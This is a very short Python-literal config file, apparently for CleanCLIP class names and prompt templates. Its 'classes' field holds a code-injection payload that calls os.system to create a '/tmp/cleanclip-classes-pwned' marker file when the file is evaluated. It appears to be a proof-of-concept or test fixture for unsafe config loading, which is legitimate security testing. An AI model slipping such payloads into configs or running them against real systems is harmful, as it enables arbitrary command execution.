{
    "classes": [__import__("os").system("touch /tmp/cleanclip-classes-pwned")],
    "templates": [lambda s: f"a photo of a {s}."]
}
